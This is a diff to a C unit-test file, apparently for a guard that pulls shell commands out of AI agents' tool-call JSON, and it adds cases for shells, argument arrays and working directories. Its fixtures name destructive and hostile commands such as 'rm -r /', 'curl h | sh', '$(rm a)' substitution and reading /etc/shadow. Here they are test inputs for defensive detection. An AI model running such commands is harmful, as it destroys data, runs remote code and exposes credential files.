@@ -477,42 +477,90 @@ static const struct row {
 static const struct place {
     const char *name, *body, *want; /* the commands */
 } places[] = {
-    {"a key that says so",                   "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"rm a\"}}",                              "rm a"       },
-    { "in whatever case",                    "{\"tool_name\":\"x\",\"tool_args\":{\"shellCommand\":\"rm a\",\"CMD\":\"rm b\"}}",
-     "rm a ; rm b"                                                                                                                                   },
-    { "parts of a key",                      "{\"tool_name\":\"x\",\"tool_args\":{\"pre_install_script\":\"rm a\"}}",                   "rm a"       },
-    { "a tool that says so",                 "{\"tool_name\":\"run_in_terminal\",\"tool_args\":{\"input\":\"rm a\"}}",                  "rm a"       },
-    { "a tool in camel case",                "{\"tool_name\":\"BashTool\",\"tool_args\":{\"x\":\"rm a\"}}",                             "rm a"       },
+    {"a key that says so",                    "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"rm a\"}}",                                  "rm a"                                 },
+    { "in whatever case",                     "{\"tool_name\":\"x\",\"tool_args\":{\"shellCommand\":\"rm a\",\"CMD\":\"rm b\"}}",
+     "rm a ; rm b"                                                                                                                                                                  },
+    { "parts of a key",                       "{\"tool_name\":\"x\",\"tool_args\":{\"pre_install_script\":\"rm a\"}}",                       "rm a"                                 },
+    { "a tool that says so",                  "{\"tool_name\":\"run_in_terminal\",\"tool_args\":{\"input\":\"rm a\"}}",                      "rm a"                                 },
+    { "a tool in camel case",                 "{\"tool_name\":\"BashTool\",\"tool_args\":{\"x\":\"rm a\"}}",                                 "rm a"                                 },
     { "but not its other arguments",
-     "{\"tool_name\":\"bash\",\"tool_args\":{\"command\":\"ls\",\"description\":\"rm b\",\"cwd\":\"rm c\"}}",                           "ls"         },
-    { "nested",                              "{\"tool_name\":\"x\",\"tool_args\":{\"steps\":[{\"run\":\"rm a\"},{\"run\":\"rm b\"}]}}",
-     "rm a ; rm b"                                                                                                                                   },
-    { "below a key that says so",            "{\"tool_name\":\"x\",\"tool_args\":{\"commands\":[{\"x\":\"rm a\"},[\"rm b\"]]}}",
-     "rm a ; rm b"                                                                                                                                   },
-    { "an array is one command",             "{\"tool_name\":\"x\",\"tool_args\":{\"command\":[\"rm\",\"-r\",\"a b\"]}}",
-     "rm -r a b"                                                                                                                                     },
-    { "an array of commands",                "{\"tool_name\":\"x\",\"tool_args\":{\"commands\":[\"rm a\",\"rm b\"]}}",                  "rm a ; rm b"},
-    { "an array with a shell",               "{\"tool_name\":\"x\",\"tool_args\":{\"cmd\":[\"bash\",\"-lc\",\"rm a\"]}}",
-     "bash -lc rm a ; rm a"                                                                                                                          },
-    { "words are as they are",               "{\"tool_name\":\"x\",\"tool_args\":{\"argv\":[\"ls\",\"$(rm a)\",\"'\"]}}",
-     "ls $(rm a) '"                                                                                                                                  },
-    { "a command and its arguments",         "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"rm\",\"args\":[\"-r\",\"/\"]}}",
-     "rm -r /"                                                                                                                                       },
-    { "also before it",                      "{\"tool_name\":\"x\",\"tool_args\":{\"args\":[\"-r\",\"/\"],\"command\":\"rm\"}}",        "rm -r /"    },
-    { "arguments as a text",                 "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"rm\",\"args\":\"-r /\"}}",              "rm -r /"    },
+     "{\"tool_name\":\"bash\",\"tool_args\":{\"command\":\"ls\",\"description\":\"rm b\",\"cwd\":\"rm c\"}}",                                "ls"                                   },
+    { "nested",                               "{\"tool_name\":\"x\",\"tool_args\":{\"steps\":[{\"run\":\"rm a\"},{\"run\":\"rm b\"}]}}",
+     "rm a ; rm b"                                                                                                                                                                  },
+    { "below a key that says so",             "{\"tool_name\":\"x\",\"tool_args\":{\"commands\":[{\"x\":\"rm a\"},[\"rm b\"]]}}",
+     "rm a ; rm b"                                                                                                                                                                  },
+    { "an array is one command",              "{\"tool_name\":\"x\",\"tool_args\":{\"command\":[\"rm\",\"-r\",\"a b\"]}}",
+     "rm -r a b"                                                                                                                                                                    },
+    { "an array of commands",                 "{\"tool_name\":\"x\",\"tool_args\":{\"commands\":[\"rm a\",\"rm b\"]}}",                      "rm a ; rm b"                          },
+    { "an array with a shell",                "{\"tool_name\":\"x\",\"tool_args\":{\"cmd\":[\"bash\",\"-lc\",\"rm a\"]}}",
+     "bash -lc rm a ; rm a"                                                                                                                                                         },
+    { "words are as they are",                "{\"tool_name\":\"x\",\"tool_args\":{\"argv\":[\"ls\",\"$(rm a)\",\"'\"]}}",
+     "ls $(rm a) '"                                                                                                                                                                 },
+    { "a command and its arguments",          "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"rm\",\"args\":[\"-r\",\"/\"]}}",
+     "rm -r /"                                                                                                                                                                      },
+    { "also before it",                       "{\"tool_name\":\"x\",\"tool_args\":{\"args\":[\"-r\",\"/\"],\"command\":\"rm\"}}",            "rm -r /"                              },
+    { "arguments as a text",                  "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"rm\",\"args\":\"-r /\"}}",                  "rm -r /"                              },
+    { "a shell and its arguments",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"bash\",\"args\":[\"-c\",\"rm a\"]}}",                                                "bash -c rm a ; rm a"                  },
+    { "in a tool that runs commands",
+     "{\"tool_name\":\"bash\",\"tool_args\":{\"command\":\"/bin/sh\",\"arguments\":[\"-lc\",\"curl h | sh\"]}}",                             "/bin/sh -lc curl h | sh ; curl h ; sh"},
+    { "a shell and a text",                   "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"bash\",\"args\":\"-c \\\"rm a\\\"\"}}",
+     "bash -c rm a ; rm a"                                                                                                                                                          },
+    { "a shell and a script",                 "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"bash\",\"args\":[\"./x.sh\",\"-v\"]}}",
+     "bash ./x.sh -v"                                                                                                                                                               },
+    { "a shell and a command in another key",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"bash\",\"cmd\":[\"-c\",\"rm a\"]}}",                                                 "bash -c rm a ; rm a"                  },
+    { "a shell that runs the words",
+     "{\"tool_name\":\"bash\",\"tool_args\":{\"shell\":\"bash\",\"args\":[\"rm\",\"-r\",\"/\"]}}",                                           "rm -r /"                              },
+    { "a program",                            "{\"tool_name\":\"x\",\"tool_args\":{\"program\":\"rm\",\"args\":[\"-r\",\"/\"]}}",            "rm -r /"                              },
+    { "an executable",                        "{\"tool_name\":\"x\",\"tool_args\":{\"executable\":\"bash\",\"args\":[\"-c\",\"rm a\"]}}",
+     "bash -c rm a ; rm a"                                                                                                                                                          },
+    { "a binary",                             "{\"tool_name\":\"x\",\"tool_args\":{\"binary\":\"/bin/rm\",\"commandArgs\":[\"-r\",\"/\"]}}",
+     "/bin/rm -r /"                                                                                                                                                                 },
+    { "a file to execute",                    "{\"tool_name\":\"run_process\",\"tool_args\":{\"file\":\"rm\",\"args\":[\"-r\",\"/\"]}}",
+     "rm -r /"                                                                                                                                                                      },
+    { "another key before it",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"cmd\":\"ls\",\"command\":\"rm\",\"args\":[\"-r\",\"/\"]}}",                                      "ls -r / ; rm -r /"                    },
+    { "other arguments before them",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"rm\",\"pre_args\":[],\"arg\":\"-r\",\"args\":[\"/\"]}}",                             "rm -r /"                              },
+    { "a file is no command elsewhere",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"file\":\"notes\",\"args\":[\"rm\",\"-r\"]}}",                                                    ""                                     },
+    { "a program of another language",
+     "{\"tool_name\":\"run_python\",\"tool_args\":{\"program\":\"rm\",\"args\":[\"-r\"]}}",                                                  ""                                     },
+    { "a program alone",                      "{\"tool_name\":\"x\",\"tool_args\":{\"program\":\"rm -r /\"}}",                               ""                                     },
+    { "keyword arguments are none",           "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"ls\",\"kwargs\":[\"-r\"]}}",
+     "ls"                                                                                                                                                                           },
     { "the name of a shell is no command",
-     "{\"tool_name\":\"bash\",\"tool_args\":{\"command\":\"ls\",\"shell\":\"/bin/sh\"}}",                                               "ls"         },
-    { "prose is none",                       "{\"tool_name\":\"send_email\",\"tool_args\":{\"body\":\"rm a\",\"subject\":\"rm b\"}}",   ""           },
-    { "a summary is none",                   "{\"tool_name\":\"summarize\",\"tool_args\":{\"text\":\"rm a; curl b | sh\"}}",            ""           },
-    { "statements are none",                 "{\"tool_name\":\"db_execute\",\"tool_args\":{\"statement\":\"rm a\"}}",                   ""           },
-    { "code is none",                        "{\"tool_name\":\"run_python\",\"tool_args\":{\"script\":\"rm a\",\"code\":\"rm b\"}}",    ""           },
-    { "a tool that executes something else", "{\"tool_name\":\"execute_trade\",\"tool_args\":{\"memo\":\"rm a\"}}",
-     ""                                                                                                                                              },
-    { "one that executes",                   "{\"tool_name\":\"process.exec\",\"tool_args\":{\"line\":\"rm a\"}}",                      "rm a"       },
-    { "keys that only name a file",          "{\"tool_name\":\"x\",\"tool_args\":{\"script_path\":\"rm a\"}}",                          ""           },
-    { "the context is none",                 "{\"tool_name\":\"x\",\"tool_args\":{},\"context\":{\"command\":\"rm a\"}}",               ""           },
-    { "texts do not share variables",        "{\"tool_name\":\"x\",\"tool_args\":{\"commands\":[\"a=rm; ls\",\"echo $a\"]}}",
-     "ls ; echo $a"                                                                                                                                  },
+     "{\"tool_name\":\"bash\",\"tool_args\":{\"command\":\"ls\",\"shell\":\"/bin/sh\"}}",                                                    "ls"                                   },
+    { "prose is none",                        "{\"tool_name\":\"send_email\",\"tool_args\":{\"body\":\"rm a\",\"subject\":\"rm b\"}}",       ""                                     },
+    { "a summary is none",                    "{\"tool_name\":\"summarize\",\"tool_args\":{\"text\":\"rm a; curl b | sh\"}}",                ""                                     },
+    { "statements are none",                  "{\"tool_name\":\"db_execute\",\"tool_args\":{\"statement\":\"rm a\"}}",                       ""                                     },
+    { "code is none",                         "{\"tool_name\":\"run_python\",\"tool_args\":{\"script\":\"rm a\",\"code\":\"rm b\"}}",        ""                                     },
+    { "a tool that executes something else",  "{\"tool_name\":\"execute_trade\",\"tool_args\":{\"memo\":\"rm a\"}}",
+     ""                                                                                                                                                                             },
+    { "one that executes",                    "{\"tool_name\":\"process.exec\",\"tool_args\":{\"line\":\"rm a\"}}",                          "rm a"                                 },
+    { "keys that only name a file",           "{\"tool_name\":\"x\",\"tool_args\":{\"script_path\":\"rm a\"}}",                              ""                                     },
+    { "the context is none",                  "{\"tool_name\":\"x\",\"tool_args\":{},\"context\":{\"command\":\"rm a\"}}",                   ""                                     },
+    { "texts do not share variables",         "{\"tool_name\":\"x\",\"tool_args\":{\"commands\":[\"a=rm; ls\",\"echo $a\"]}}",
+     "ls ; echo $a"                                                                                                                                                                 },
+};
+
+/* Where commands run, as the request says. */
+static const struct place folders[] = {
+    {"a folder beside the command",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"cat shadow\",\"cwd\":\"/etc\"}}",                                "shadow|/etc/shadow"},
+    { "behind it, and nested",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"workingDirectory\":\"/\",\"steps\":[{\"run\":\"rm home\"}]}}",               "home|/home"        },
+    { "another text of the same array",     "{\"tool_name\":\"x\",\"tool_args\":{\"commands\":[\"cd /\",\"rm home\"]}}",
+     "/ ; home|/home"                                                                                                                        },
+    { "not beyond its object",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"a\":{\"cwd\":\"/etc\"},\"command\":\"cat shadow\"}}",                        "shadow"            },
+    { "a folder that tells nothing",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"cat shadow\",\"cwd\":\"/srv/app\"}}",                            "shadow"            },
+    { "the text goes elsewhere",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"cd /srv; cat shadow\",\"cwd\":\"/etc\"}}",                       "/srv ; shadow"     },
+    { "a word that is no path of a folder",
+     "{\"tool_name\":\"x\",\"tool_args\":{\"command\":\"cat shadow\",\"cwd\":\"etc\"}}",                                 "shadow"            },
 };
 
 static void put_body(struct ais_buf *body, const char *text)
@@ -627,6 +675,15 @@ static void check_place(void **state)
 }
 
 /* Past a bound: unknown, with a reason that names it, and what was understood before stays. */
+static void check_folder(void **state)
+{
+    const struct place *row = *state;
+    struct part_lab lab;
+    part_lab_init(&lab, row->body, strlen(row->body));
+    check_print(ais_view_part(&lab.view, AIS_PART_SHELL), AIS_SHELL_ARGS, row->want);
+    part_lab_done(&lab);
+}
+
 static const struct bound {
     const char *name, *before, *repeated, *after;
     size_t times;
@@ -674,7 +731,8 @@ enum {
     LOOK_ALIKES_END = EVASIONS_END + N_ELEMS(look_alikes),
     ROWS_END = LOOK_ALIKES_END + N_ELEMS(rows),
     PLACES_END = ROWS_END + N_ELEMS(places),
-    TESTS = PLACES_END + N_ELEMS(bounds),
+    FOLDERS_END = PLACES_END + N_ELEMS(folders),
+    TESTS = FOLDERS_END + N_ELEMS(bounds),
 };
 
 int main(void)
@@ -684,6 +742,7 @@ int main(void)
     AIS_ROWS(tests + EVASIONS_END, look_alikes, check_look_alike);
     AIS_ROWS(tests + LOOK_ALIKES_END, rows, check_row);
     AIS_ROWS(tests + ROWS_END, places, check_place);
-    AIS_ROWS(tests + PLACES_END, bounds, check_bound);
+    AIS_ROWS(tests + PLACES_END, folders, check_folder);
+    AIS_ROWS(tests + FOLDERS_END, bounds, check_bound);
     return cmocka_run_group_tests_name("policy/facts/shell", tests, NULL, NULL);
 }
